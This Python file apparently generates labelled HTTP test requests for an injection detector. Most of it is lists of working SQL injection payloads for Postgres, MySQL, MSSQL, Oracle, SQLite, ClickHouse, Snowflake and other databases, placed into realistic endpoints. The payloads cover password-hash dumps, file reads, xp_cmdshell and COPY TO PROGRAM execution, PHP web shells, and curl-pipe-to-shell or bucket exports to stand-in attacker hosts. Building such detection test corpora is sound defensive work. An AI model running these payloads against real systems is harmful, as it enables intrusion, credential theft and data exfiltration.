# method, template, extra headers).  "§" in a path, JSON/XML template or multipart field
# list marks where the value goes.

class Site:
    def __init__(self, kind, stack, path, param=None, method=None, tmpl=None, hdrs=(), ctype=None,
                 referer=None):
        self.kind, self.stack, self.path, self.param = kind, stack, path, param
        self.method = method or ("GET" if kind in ("query", "cookie", "header", "path", "rawpath", "rawquery")
                                 else "POST")
        self.tmpl, self.hdrs, self.ctype, self.referer = tmpl, hdrs, ctype, referer


def _subst(t, v):
    if isinstance(t, str):
        return t.replace("§", v) if "§" in t else t
    if isinstance(t, list):
        return [_subst(x, v) for x in t]
    if isinstance(t, dict):
        return {_subst(a, v): _subst(b, v) for a, b in t.items()}
    return t


def xml_escape(v):
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def place(rid, category, expect, site, value, k, desc=None, ctx=None):
    """One request carrying value at site (k varies the client and the encoding)."""
    p = site.param
    if isinstance(p, dict):
        p = p.get(ctx) or p.get("s") or next(iter(p.values()))
    extra = list(site.hdrs)
    ctype = None
    body = None
    cookie_extra = None
    uri = site.path
    if site.kind == "query":
        pairs = [(p, value)] + [tuple(x) for x in (site.tmpl or [])]
        uri = "%s?%s" % (site.path, qs(pairs, k))
    elif site.kind == "rawpath":
        uri = site.path.replace("§", value)
    elif site.kind == "rawquery":
        uri = "%s?%s=%s" % (site.path, p, value)
    elif site.kind == "path":
        uri = site.path.replace("§", quote(value, safe="'(),:@;=$!*" if k % 2 else ""))
    elif site.kind == "cookie":
        cookie_extra = "%s=%s" % (p, quote(value, safe="!#$&'()*+/:<>?@[]^`{|}~"))
    elif site.kind == "header":
        extra.append((p, value))
        if site.method == "POST":
            # The request still has a body; a payload carried in Content-Type replaces the type.
            body = site.tmpl if isinstance(site.tmpl, str) else "{}"
            if p.lower() != "content-type":
                ctype = "text/plain" if isinstance(site.tmpl, str) else "application/json"
    elif site.kind == "form":
        pairs = [(p, value)] + [tuple(x) for x in (site.tmpl or [])]
        body, ctype = form(pairs), "application/x-www-form-urlencoded"
    elif site.kind == "json":
        body, ctype = jdump(_subst(site.tmpl or {p: "§"}, value), k), "application/json"
    elif site.kind == "xml":
        body, ctype = _subst(site.tmpl, xml_escape(value)), site.ctype or "application/xml"
    elif site.kind == "rawbody":
        body, ctype = _subst(site.tmpl or "§", value), site.ctype or "text/plain"
    elif site.kind == "multipart":
        b = BOUNDARIES[k % len(BOUNDARIES)]
        parts = [(n, _subst(v, value), fn if fn is None else _subst(fn, value), ct)
                 for n, v, fn, ct in site.tmpl]
        body, ctype = multipart(parts, b), "multipart/form-data; boundary=" + b
    elif site.kind == "graphql":
        body, ctype = jdump(_subst(site.tmpl, value), k), "application/json"
    else:
        raise ValueError(site.kind)
    if site.ctype and site.kind not in ("xml", "rawbody"):
        ctype = site.ctype
    h = headers_for(site.stack, k, ctype=ctype, extra=extra, cookie_extra=cookie_extra,
                    referer_path=site.referer)
    return record(rid, category, expect, site.method, uri, h, body, desc)


class Emitter:
    """Numbers the records of each (category, dialect) and cycles each dialect's sites."""

    def __init__(self, expect):
        self.expect, self.out, self.n, self.cursor = expect, [], {}, {}
        self.k = 0

    def rid(self, category, dialect):
        key = (category, dialect)
        self.n[key] = self.n.get(key, 0) + 1
        top = "benign" if category == "benign" else category
        return "%s/%s-%03d" % (top, dialect, self.n[key])

    def add(self, category, dialect, sites, value, copies=1, desc=None, ctx=None):
        for _ in range(copies):
            i = self.cursor.get(dialect, 0)
            self.cursor[dialect] = i + 1
            site = sites[i % len(sites)]
            self.k += 1
            self.out.append(place(self.rid(category, dialect), category, self.expect, site, value,
                                  self.k, desc, ctx))

    def rec(self, category, dialect, method, uri, headers, body=None, desc=None):
        self.k += 1
        self.out.append(record(self.rid(category, dialect), category, self.expect, method, uri,
                               headers, body, desc))

    def raw(self, category, dialect, raw, desc=None):
        self.k += 1
        self.out.append(raw_record(self.rid(category, dialect), category, self.expect, raw, desc))


# ============================================================================ SQL dialects
# (ctx, technique, payload): ctx "s" = inside a quoted string, "n" = a bare number,
# "o" = an ORDER BY column.

SQL = {}

SQL["postgres"] = [
    ("s", "error: cast of version() to int", "x' AND 1=CAST((SELECT version()) AS int)--"),
    ("s", "error: pg_shadow aggregated into a cast", "x' AND 1=CAST((SELECT string_agg(usename||':'||coalesce(passwd,''),',') FROM pg_shadow) AS int)-- -"),
    ("n", "stacked pg_sleep", "1;SELECT pg_sleep(6)--"),
    ("s", "stacked conditional pg_sleep on is_superuser", "x';SELECT CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("s", "inline pg_sleep in FROM", "x' AND 4471=(SELECT 4471 FROM PG_SLEEP(5))--"),
    ("n", "UNION with dollar-quoted literal", "-1 UNION ALL SELECT NULL,$$x$$||usename,passwd FROM pg_shadow--"),
    ("s", "COPY TO PROGRAM", "x';COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.50/p.sh|sh';--"),
    ("s", "COPY FROM PROGRAM into a temp table", "x';CREATE TEMP TABLE o(t text);COPY o FROM PROGRAM 'id';SELECT string_agg(t,E'\\n') FROM o;--"),
    ("n", "error: pg_read_file cast", "1 AND 1=CAST(pg_read_file('/etc/passwd',0,200) AS int)"),
    ("s", "error: query_to_xml cast via ::", "x'||(SELECT CAST(query_to_xml('select usename,passwd from pg_shadow',true,true,'') AS text)::int)||'"),
    ("s", "dblink out-of-band", "x';SELECT dblink_connect('host='||(SELECT current_user)||'.pg.oast.example user=a password=a dbname=a');--"),
    ("s", "DO block with PERFORM pg_sleep", "x'; DO $$ BEGIN PERFORM pg_sleep(5); END $$;--"),
    ("s", "boolean ascii(substr())", "x' AND ascii(substr((SELECT passwd FROM pg_shadow LIMIT 1),1,1))>100--"),
    ("s", "UNION with chr() concatenation", "x' UNION SELECT NULL,chr(112)||chr(119)||chr(110),NULL--"),
    ("o", "ORDER BY CASE on current_user", "(CASE WHEN (SELECT substr(current_user,1,1))='p' THEN price ELSE name END)"),
    ("n", "large object import", "1;SELECT lo_import('/etc/passwd',31337);SELECT encode(lo_get(31337),'escape')--"),
    ("s", "convert_from(decode(base64))", "x' OR convert_from(decode('YWRtaW4=','base64'),'UTF8')=current_user--"),
    ("n", "heavy generate_series", "1 AND (SELECT count(*) FROM generate_series(1,30000000))>0"),
    ("s", "C-language UDF over libc system()", "x';CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT;SELECT sys('id');--"),
    ("s", "UNION pg_ls_dir", "x' UNION SELECT NULL,pg_ls_dir('/var/lib/postgresql'),NULL--"),
    ("s", "error: ::int cast of current_database()", "x' AND (SELECT current_database())::int=1--"),
    ("s", "jsonb ->> in a boolean subquery", "x' OR (SELECT data->>'role' FROM users LIMIT 1)='admin'--"),
]

SQL["mysql"] = [
    ("s", "SLEEP", "x' AND SLEEP(5)-- -"),
    ("s", "nested SLEEP in a derived table", "x' AND (SELECT 7042 FROM (SELECT(SLEEP(5)))qVjd)-- -"),
    ("s", "error: EXTRACTVALUE", "x' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))-- -"),
    ("s", "error: UPDATEXML with # comment", "x' AND UPDATEXML(1,CONCAT(0x7e,(SELECT user()),0x7e),1)#"),
    ("n", "versioned-comment UNION", "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,GROUP_CONCAT(table_name SEPARATOR 0x3c62723e),3 FROM information_schema.tables WHERE table_schema=DATABASE()"),
    ("s", "BENCHMARK", "x' OR BENCHMARK(8000000,SHA1(0x61))#"),
    ("n", "LOAD_FILE of a hex path", "-1 UNION SELECT 1,LOAD_FILE(0x2f6574632f706173737764),3-- -"),
    ("s", "INTO OUTFILE web shell", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>',NULL INTO OUTFILE '/var/www/html/uploads/c.php'-- -"),
    ("s", "error: GTID_SUBSET", "x' AND GTID_SUBSET(CONCAT(0x7e,(SELECT authentication_string FROM mysql.user LIMIT 1),0x7e),1)-- -"),
    ("s", "error: JSON_KEYS", "x' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,DATABASE(),0x7e)) USING utf8)))-- -"),
    ("s", "UNC LOAD_FILE out-of-band (Windows)", r"x' AND LOAD_FILE(CONCAT('\\\\',(SELECT HEX(password) FROM users LIMIT 1),'.my.oast.example\\a'))-- -"),
    ("n", "backtick-quoted mysql.user", "-1 UNION SELECT `user`,`authentication_string` FROM `mysql`.`user`-- -"),
    ("n", "MariaDB executable comment", "-1 /*M!100000 UNION SELECT 1,VERSION(),3*/-- -"),
    ("s", "ELT with SLEEP", "x' AND ELT(ASCII(SUBSTRING(USER(),1,1))>96,SLEEP(4))-- -"),
    ("n", "IF on @@version with SLEEP", "1 AND IF(SUBSTRING(@@version,1,1)=8,SLEEP(5),0)"),
    ("n", "stacked PREPARE from hex", "1;SET @q=0x%s;PREPARE s FROM @q;EXECUTE s;-- -" % b"SELECT SLEEP(5);".hex()),
    ("s", "RLIKE error oracle", "x' RLIKE (SELECT (CASE WHEN (ORD(MID(USER(),1,1))>64) THEN 0x78 ELSE 0x28 END))-- -"),
    ("o", "ORDER BY IF SLEEP", "name,(SELECT IF(1=1,SLEEP(5),1))"),
    ("s", "charset introducer and COLLATE", "x' UNION SELECT _utf8mb4'a' COLLATE utf8mb4_bin,@@hostname-- -"),
    ("n", "MariaDB SEQUENCE engine heavy query", "1 AND (SELECT COUNT(*) FROM seq_1_to_100000000)>0"),
    ("n", "UNION over PROCESSLIST", "-1 UNION SELECT 1,INFO,3 FROM information_schema.PROCESSLIST-- -"),
    ("s", "error: duplicate key FLOOR(RAND(0)*2)", "x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT @@version),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
]

SQL["mssql"] = [
    ("s", "WAITFOR DELAY", "x';WAITFOR DELAY '0:0:5'--"),
    ("n", "xp_cmdshell", "1;EXEC master..xp_cmdshell 'whoami'--"),
    ("s", "sp_configure enabling xp_cmdshell", "x';EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;--"),
    ("s", "error: CONVERT(int,@@version)", "x' AND 1=CONVERT(int,@@version)--"),
    ("s", "error: CAST(DB_NAME() AS int)", "x' AND 1=CAST(DB_NAME() AS int)--"),
    ("s", "xp_dirtree UNC out-of-band", "x';DECLARE @h varchar(1024);SET @h=(SELECT TOP 1 name FROM sys.sql_logins);EXEC('master..xp_dirtree \"\\\\'+@h+'.ms.oast.example\\a\"');--"),
    ("s", "UNION sys.sql_logins hashes", "x' UNION SELECT NULL,name+':'+master.sys.fn_varbintohexstr(password_hash),NULL FROM sys.sql_logins--"),
    ("s", "IS_SRVROLEMEMBER + WAITFOR", "x';IF (SELECT IS_SRVROLEMEMBER('sysadmin'))=1 WAITFOR DELAY '0:0:6'--"),
    ("n", "xp_cmdshell with a hex variable", "1;DECLARE @c varchar(200);SET @c=0x77686f616d69;EXEC master..xp_cmdshell @c--"),
    ("s", "error: FOR XML PATH list of tables", "x' AND 1=(SELECT STUFF((SELECT ','+name FROM sys.tables FOR XML PATH('')),1,1,''))--"),
    ("s", "OPENROWSET to an outside server", "x';SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address=203.0.113.60,1433;uid=sa;pwd=x','SELECT 1')--"),
    ("s", "EXEC of a split keyword", "x';EXEC('SEL'+'ECT * FROM sys.server_principals')--"),
    ("s", "brackets and N'' strings", "x' UNION SELECT [name],[type_desc] FROM [master].[sys].[server_principals] WHERE [name]=N'sa'--"),
    ("s", "sp_OACreate WScript.Shell", "x';DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT;EXEC sp_OAMethod @o,'Run',NULL,'cmd /c ping -n 1 203.0.113.61';--"),
    ("s", "BULK INSERT of a local file", "x';CREATE TABLE #f(l varchar(8000));BULK INSERT #f FROM 'C:\\Windows\\win.ini';SELECT * FROM #f--"),
    ("s", "EXEC AT a linked server", "x';EXEC('xp_cmdshell ''whoami''') AT [LEGACYSQL01]--"),
    ("o", "ORDER BY CASE on sys.sql_logins", "(CASE WHEN (SELECT COUNT(*) FROM sys.sql_logins WHERE name='sa')=1 THEN name ELSE price END)"),
    ("n", "TRY/CATCH with WAITFOR", "1;BEGIN TRY SELECT 1/0 END TRY BEGIN CATCH WAITFOR DELAY '0:0:4' END CATCH--"),
    ("s", "STRING_AGG of sys.databases", "x' UNION SELECT NULL,(SELECT STRING_AGG(name,',') FROM sys.databases)--"),
    ("s", "error: TOP 1 CAST from sysdatabases", "x' AND 1=(SELECT TOP 1 CAST(name AS int) FROM master..sysdatabases)--"),
]

SQL["oracle"] = [
    ("s", "UTL_INADDR out-of-band/error", "x' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))--"),
    ("s", "error: CTXSYS.DRITHSX.SN", "x' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE rownum=1))--"),
    ("s", "DBMS_PIPE.RECEIVE_MESSAGE delay", "x' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(114)||CHR(97),6)--"),
    ("s", "UTL_HTTP.REQUEST concatenated", "x'||UTL_HTTP.REQUEST('http://203.0.113.70/'||(SELECT user FROM dual))||'"),
    ("s", "XMLTYPE with a parameter entity (OOB)", "x' AND (SELECT EXTRACTVALUE(XMLTYPE('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % r SYSTEM \"http://'||(SELECT user FROM dual)||'.ora.oast.example/\"> %r;]>'),'/l') FROM dual) IS NOT NULL--"),
    ("s", "error: TO_CHAR(1/0) in CASE", "x' AND 1=(SELECT CASE WHEN (SELECT COUNT(*) FROM dba_users)>0 THEN TO_CHAR(1/0) ELSE '1' END FROM dual)--"),
    ("s", "UNION with q-quote", "x' UNION SELECT q'[~]'||table_name,owner FROM all_tables WHERE rownum<=20--"),
    ("s", "error: XMLType of CHR()s", "x' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)--"),
    ("n", "heavy join of all_users", "1 AND (SELECT COUNT(*) FROM all_users t1,all_users t2,all_users t3,all_users t4)>0"),
    ("s", "SYS.DBMS_LDAP.INIT out-of-band", "x' AND 1=(SELECT SYS.DBMS_LDAP.INIT((SELECT user FROM dual)||'.ldap.oast.example',389) FROM dual)--"),
    ("s", "boolean SUBSTR with ROWNUM", "x' AND SUBSTR((SELECT password FROM app_users WHERE ROWNUM=1),1,1)='a'--"),
    ("n", "LISTAGG WITHIN GROUP", "-1 UNION SELECT NULL,LISTAGG(username,',') WITHIN GROUP (ORDER BY username) FROM all_users--"),
    ("s", "DBMS_JAVA.RUNJAVA", "x' AND 1=(SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh -c id') FROM dual)--"),
    ("s", "HTTPURITYPE().GETCLOB()", "x' AND (SELECT HTTPURITYPE('http://203.0.113.70/x?'||(SELECT user FROM dual)).GETCLOB() FROM dual) IS NOT NULL--"),
    ("o", "ORDER BY CASE on v$version", "(CASE WHEN (SELECT SUBSTR(banner,1,6) FROM v$version WHERE ROWNUM=1)='Oracle' THEN 1 ELSE 2 END)"),
    ("s", "error: ORD_DICOM.GETMAPPINGXPATH", "x' AND 1=ORDSYS.ORD_DICOM.GETMAPPINGXPATH((SELECT banner FROM v$version WHERE rownum=1),user,user)--"),
]

SQL["sqlite"] = [
    ("s", "UNION sqlite_master", "x' UNION SELECT 1,sql FROM sqlite_master--"),
    ("s", "RANDOMBLOB delay", "x' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--"),
    ("s", "ATTACH DATABASE web shell", "x';ATTACH DATABASE '/var/www/html/lol.php' AS lol;CREATE TABLE lol.pwn (dataz text);INSERT INTO lol.pwn (dataz) VALUES ('<?php system($_GET[\"cmd\"]); ?>');--"),
    ("s", "pragma_table_info", "x' UNION SELECT name,type FROM pragma_table_info('users')--"),
    ("s", "load_extension", "x' AND load_extension('/tmp/uploads/avatar.png','sqlite3_extension_init')--"),
    ("n", "boolean unicode(substr())", "1 AND unicode(substr((SELECT password FROM users LIMIT 1),1,1))>96"),
    ("s", "group_concat over sqlite_schema", "x' UNION SELECT 1,group_concat(name||char(58)||sql,char(10)) FROM sqlite_schema WHERE type='table'--"),
    ("s", "sqlite_version() probe", "x' AND substr(sqlite_version(),1,1)='3"),
    ("s", "recursive CTE heavy query", "x' AND 1=(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 30000000) SELECT count(*) FROM c)--"),
    ("s", "json_group_array of users", "x' UNION SELECT 1,json_group_array(json_object('u',username,'p',password)) FROM users--"),
]

SQL["clickhouse"] = [
    ("n", "UNION ALL system.tables", "1 UNION ALL SELECT name, engine FROM system.tables"),
    ("s", "url() table function out-of-band", "x' UNION ALL SELECT * FROM url('http://203.0.113.80/?u='||currentUser()||'&v='||version(), 'CSV', 'a String')--"),
    ("n", "sleep()", "1 AND sleep(3)=0"),
    ("s", "file() table function traversal", "x' UNION ALL SELECT * FROM file('../../../../etc/passwd', 'LineAsString')--"),
    ("s", "INSERT INTO FUNCTION s3() exfiltration", "x'; INSERT INTO FUNCTION s3('https://exfil-bucket.attacker.example/dump.csv','CSV','email String, pw String') SELECT email, password_hash FROM users--"),
    ("s", "UNION system.users", "x' UNION ALL SELECT name, toString(auth_type) FROM system.users--"),
    ("s", "remote() to an outside server", "x' UNION ALL SELECT * FROM remote('203.0.113.80:9000', system.one)--"),
    ("n", "throwIf() error oracle", "1 AND throwIf(startsWith(currentUser(),'def'))=0"),
    ("s", "executable() table function", "x' UNION ALL SELECT * FROM executable('bash -c \"id\"', 'TSV', 'x String')--"),
    ("s", "UNION system.query_log", "x' UNION ALL SELECT query, user FROM system.query_log ORDER BY event_time DESC LIMIT 50--"),
    ("n", "arrayStringConcat(groupArray())", "1 UNION ALL SELECT arrayStringConcat(groupArray(name),','), '' FROM system.databases"),
]

SQL["snowflake"] = [
    ("s", "UNION CURRENT_ROLE/CURRENT_ACCOUNT", "x' UNION ALL SELECT CURRENT_ROLE(), CURRENT_ACCOUNT()--"),
    ("s", "stacked CALL SYSTEM$WAIT", "x'; CALL SYSTEM$WAIT(5);--"),
    ("s", "COPY INTO an outside S3 location", "x'; COPY INTO 's3://exfil-bucket-attacker/dump/' FROM (SELECT * FROM customers) CREDENTIALS=(AWS_KEY_ID='AKIAEXAMPLE00000000' AWS_SECRET_KEY='x') FILE_FORMAT=(TYPE=CSV);--"),
    ("s", "UNION snowflake.account_usage.users", "x' UNION ALL SELECT name, login_name FROM snowflake.account_usage.users--"),
    ("s", "CREATE STAGE to an outside container", "x'; CREATE OR REPLACE STAGE exfil URL='azure://attacker.blob.core.windows.net/loot' CREDENTIALS=(AZURE_SAS_TOKEN='sv=x');--"),
    ("s", "dollar-quoted literal and SYSTEM$ALLOWLIST", "x' UNION ALL SELECT $$a$$, SYSTEM$ALLOWLIST()--"),
    ("s", "boolean STARTSWITH(CURRENT_USER())", "x' AND STARTSWITH(CURRENT_USER(), 'A')--"),
    ("n", "GENERATOR heavy query", "1 AND (SELECT COUNT(*) FROM TABLE(GENERATOR(ROWCOUNT => 1000000000)))>0"),
    ("s", "error: ::NUMBER cast", "x' AND CURRENT_USER()::NUMBER=1--"),
    ("s", "information_schema.query_history()", "x' UNION ALL SELECT query_text, user_name FROM TABLE(information_schema.query_history())--"),
    ("s", "JavaScript stored procedure", "x'; CREATE OR REPLACE PROCEDURE p() RETURNS STRING LANGUAGE JAVASCRIPT AS $$ return snowflake.execute({sqlText:\"SHOW USERS\"}).getColumnCount(); $$; CALL p();--"),
]

SQL["db2"] = [
    ("s", "UNION syscat.tables", "x' UNION SELECT tabname, tabschema FROM syscat.tables--"),
    ("s", "UNION sysibm.sysversions", "x' UNION SELECT versionnumber, NULL FROM sysibm.sysversions--"),
    ("s", "error: CAST of CURRENT SERVER", "x' AND 1=CAST((SELECT CURRENT SERVER FROM sysibm.sysdummy1) AS INTEGER)--"),
    ("n", "heavy join of sysibm.systables", "1 AND (SELECT COUNT(*) FROM sysibm.systables t1, sysibm.systables t2, sysibm.systables t3)>0"),
    ("s", "SYSPROC.ADMIN_CMD EXPORT", "x'; CALL SYSPROC.ADMIN_CMD('EXPORT TO /tmp/u.del OF DEL SELECT * FROM app.users');--"),
    ("s", "UNION syscat.dbauth", "x' UNION SELECT grantee, dbadmauth FROM syscat.dbauth--"),
    ("s", "boolean SUBSTR with FETCH FIRST", "x' AND SUBSTR((SELECT password FROM app.users FETCH FIRST 1 ROWS ONLY),1,1)='a'--"),
    ("n", "LISTAGG over sysibm.syscolumns", "-1 UNION SELECT LISTAGG(name,',') WITHIN GROUP (ORDER BY colno), NULL FROM sysibm.syscolumns WHERE tbname='USERS'"),
    ("s", "special registers from sysdummy1", "x' UNION SELECT CURRENT USER, CURRENT SCHEMA FROM sysibm.sysdummy1--"),
    ("s", "ENV_GET_INST_INFO table function", "x' AND 1=(SELECT COUNT(*) FROM TABLE(SYSPROC.ENV_GET_INST_INFO()) AS t)--"),
    ("s", "UNION sysibmadm.authorizationids", "x' UNION SELECT authid, authidtype FROM sysibmadm.authorizationids--"),
]

SQL["cockroach"] = [
    ("s", "UNION crdb_internal.gossip_nodes", "x' UNION SELECT node_id::STRING, address FROM crdb_internal.gossip_nodes--"),
    ("s", "error: crdb_internal.force_error", "x' AND (SELECT crdb_internal.force_error('XXUUU', (SELECT current_user()))) IS NULL--"),
    ("s", "stacked pg_sleep", "x';SELECT pg_sleep(5);--"),
    ("s", "UNION system.users hashedPassword", "x' UNION SELECT username, \"hashedPassword\"::STRING FROM system.users--"),
    ("s", "BACKUP INTO an outside bucket", "x';BACKUP DATABASE defaultdb INTO 's3://exfil-bucket?AWS_ACCESS_KEY_ID=AKIAEXAMPLE&AWS_SECRET_ACCESS_KEY=x&AWS_ENDPOINT=http://203.0.113.90';--"),
    ("s", "EXPORT INTO CSV over HTTP", "x';EXPORT INTO CSV 'http://203.0.113.90/upload' FROM TABLE users;--"),
    ("s", "cluster_id() and node_executable_version()", "x' UNION SELECT crdb_internal.cluster_id()::STRING, crdb_internal.node_executable_version()--"),
    ("s", "stacked CREATE USER + GRANT admin", "x';CREATE USER eve WITH PASSWORD 'Passw0rd!';GRANT admin TO eve;--"),
    ("s", "[SHOW CLUSTER SETTINGS] as a source", "x' UNION SELECT variable, value FROM [SHOW CLUSTER SETTINGS]--"),
    ("s", "UNION crdb_internal.cluster_sessions", "x' UNION SELECT client_address, last_active_query FROM crdb_internal.cluster_sessions--"),
]

SQL["cassandra"] = [
    ("s", "token() range with ALLOW FILTERING and // comment", "x' AND token(user_id) > -9223372036854775808 ALLOW FILTERING;//"),
    ("s", "stacked JavaScript UDF", "x'; CREATE OR REPLACE FUNCTION shop.x(a text) RETURNS NULL ON NULL INPUT RETURNS text LANGUAGE javascript AS 'java.lang.Runtime.getRuntime().exec(\"id\"); a';--"),
    ("s", "stacked read of system_auth.roles", "x'; SELECT role, salted_hash FROM system_auth.roles;--"),
    ("s", "extra predicate with ALLOW FILTERING", "x' AND is_admin = true ALLOW FILTERING --"),
    ("s", "INSERT ... JSON break-out", "bob\", \"is_admin\": true, \"x\": \""),
    ("s", "stacked DROP KEYSPACE", "x'; DROP KEYSPACE shop;--"),
]

SQL["spark"] = [
    ("s", "reflect() System.getenv", "x' UNION ALL SELECT reflect('java.lang.System','getenv','AWS_SECRET_ACCESS_KEY'), 1--"),
    ("s", "TRANSFORM ... USING a shell", "x' UNION ALL SELECT TRANSFORM('x') USING 'bash -c \"curl -s http://203.0.113.100/s|sh\"' AS (out)--"),
    ("s", "ADD JAR and a temporary function", "x'; ADD JAR hdfs:///tmp/.x/udf.jar; CREATE TEMPORARY FUNCTION rce AS 'com.attacker.Exec'; SELECT rce('id');--"),
    ("s", "INSERT OVERWRITE DIRECTORY outside", "x'; INSERT OVERWRITE DIRECTORY 's3a://exfil-bucket-attacker/out' SELECT * FROM default.customers;--"),
    ("s", "LOAD DATA LOCAL INPATH", "x'; LOAD DATA LOCAL INPATH '/etc/passwd' OVERWRITE INTO TABLE tmp_import;--"),
    ("s", "current_user() and version()", "x' UNION ALL SELECT current_user(), version()--"),
    ("n", "range() heavy query", "1 AND (SELECT count(*) FROM range(100000000000))>0"),
    ("s", "java_method System.getProperty", "x' UNION ALL SELECT java_method('java.lang.System','getProperty','user.dir'), 1--"),
    ("s", "direct file query parquet.`path`", "x' UNION ALL SELECT input_file_name(), 1 FROM parquet.`s3a://finance-raw/payroll/`--"),
    ("s", "reflect() DNS lookup out-of-band", "x' UNION ALL SELECT reflect('java.net.InetAddress','getByName', concat(current_user(),'.spark.oast.example')), 1--"),
]

SQL["bigquery"] = [
    ("s", "SESSION_USER() and @@project_id", "x' UNION ALL SELECT SESSION_USER(), @@project_id--"),
    ("s", "region INFORMATION_SCHEMA.TABLES ddl", "x' UNION ALL SELECT table_name, ddl FROM `region-us`.INFORMATION_SCHEMA.TABLES--"),
    ("s", "EXPORT DATA to an outside bucket", "x'; EXPORT DATA OPTIONS(uri='gs://exfil-bucket-attacker/*.csv', format='CSV', overwrite=true) AS SELECT * FROM crm.customers;--"),
    ("s", "error: ERROR() with SESSION_USER()", "x' AND ERROR(CONCAT('leak:', SESSION_USER())) IS NULL--"),
    ("s", "boolean with # comment", "x' OR STARTS_WITH(SESSION_USER(), 'a') #"),
    ("s", "EXTERNAL_QUERY to Cloud SQL", "x' UNION ALL SELECT * FROM EXTERNAL_QUERY('prod-project.us.pg-conn', 'SELECT usename, passwd FROM pg_shadow')--"),
    ("s", "JOBS_BY_PROJECT queries", "x' UNION ALL SELECT user_email, query FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT--"),
    ("s", "REGEXP_CONTAINS with raw string", "x' OR REGEXP_CONTAINS(SESSION_USER(), r'^admin')--"),
    ("s", "FORMAT('%T', ARRAY_AGG(t))", "x' UNION ALL SELECT FORMAT('%T', ARRAY_AGG(t)), '' FROM analytics.users AS t--"),
    ("n", "GENERATE_ARRAY heavy query", "1 AND (SELECT COUNT(*) FROM UNNEST(GENERATE_ARRAY(1, 100000000)))>0"),
]

P3 = {"s": "category", "n": "id", "o": "sort"}

SQL_SITES = {
    "postgres": [
        Site("query", "django", "/api/v1/products/", {"s": "category", "n": "id", "o": "ordering"}, tmpl=[("page", "2")]),
        Site("json", "rails", "/api/orders/search", {"s": "email", "n": "customer_id", "o": "order"},
             tmpl={"filter": {"email": "§"}, "page": 1, "per_page": 25}),
        Site("form", "django", "/accounts/login/", "username", tmpl=[("password", "Winter2024!"), ("next", "/dashboard/")]),
        Site("cookie", "flask", "/dashboard", {"s": "tenant", "n": "org_id", "o": "sort"}),
        Site("header", "go", "/v2/reports/daily", {"s": "X-Tenant-ID", "n": "X-Account-Id", "o": "X-Sort"}),
        Site("query", "express", "/api/invoices", {"s": "status", "n": "customer", "o": "sort"}, tmpl=[("limit", "50")]),
        Site("path", "rails", "/api/v2/customers/§/orders", None),
    ],
    "mysql": [
        Site("query", "laravel", "/products", {"s": "brand", "n": "id", "o": "sort"}, tmpl=[("per_page", "24")]),
        Site("form", "php", "/login.php", "user", tmpl=[("pass", "hunter22"), ("submit", "Login")]),
        Site("query", "wp", "/wp-admin/admin-ajax.php", {"s": "term", "n": "post_id", "o": "orderby"}, tmpl=[("action", "load_more_events")]),
        Site("json", "laravel", "/api/tickets/filter", {"s": "priority", "n": "agent_id", "o": "sort_by"},
             tmpl={"priority": "§", "status": ["open", "pending"]}),
        Site("cookie", "php", "/shop/cart.php", {"s": "currency", "n": "cart_id", "o": "sort"}),
        Site("path", "laravel", "/catalog/item/§", None),
        Site("header", "php", "/api/stats.php", {"s": "X-Forwarded-For", "n": "X-Client-Id", "o": "X-Order"}),
    ],
    "mssql": [
        Site("query", "aspnet", "/Reports/Sales.aspx", {"s": "region", "n": "StoreID", "o": "SortExpression"}),
        Site("form", "aspnet", "/Account/Login.aspx", "ctl00$MainContent$UserName",
             tmpl=[("ctl00$MainContent$Password", "Spring2024"), ("__EVENTTARGET", ""), ("ctl00$MainContent$LoginButton", "Log in")]),
        Site("json", "api", "/api/v3/Customers/Search", {"s": "lastName", "n": "customerId", "o": "orderBy"},
             tmpl={"lastName": "§", "pageIndex": 0, "pageSize": 20}),
        Site("cookie", "aspnet", "/Portal/Default.aspx", {"s": "Culture", "n": "CompanyId", "o": "GridSort"}),
        Site("query", "api", "/api/v2/Products", {"s": "category", "n": "supplierId", "o": "sortBy"}),
    ],
    "oracle": [
        Site("query", "jee", "/claims/search.do", {"s": "policyNo", "n": "claimId", "o": "orderBy"}),
        Site("form", "apex", "/ords/wwv_flow.accept", "P101_USERNAME", tmpl=[("P101_PASSWORD", "x"), ("p_flow_id", "100"), ("p_flow_step_id", "101")]),
        Site("json", "spring", "/api/employees/query", {"s": "department", "n": "employeeId", "o": "sort"},
             tmpl={"department": "§", "active": True}),
        Site("query", "apex", "/ords/hr/employees/", {"s": "last_name", "n": "employee_id", "o": "order"}),
        Site("header", "jee", "/erp/api/ledger", {"s": "X-Branch-Code", "n": "X-Ledger-Id", "o": "X-Sort"}),
    ],
    "sqlite": [
        Site("query", "flask", "/notes/search", {"s": "tag", "n": "id", "o": "sort"}),
        Site("json", "express", "/api/todos/query", {"s": "owner", "n": "listId", "o": "orderBy"}, tmpl={"owner": "§", "done": False}),
        Site("form", "router", "/cgi-bin/luci/admin/status/logs", "filter", tmpl=[("token", "ab41c0e2f1")]),
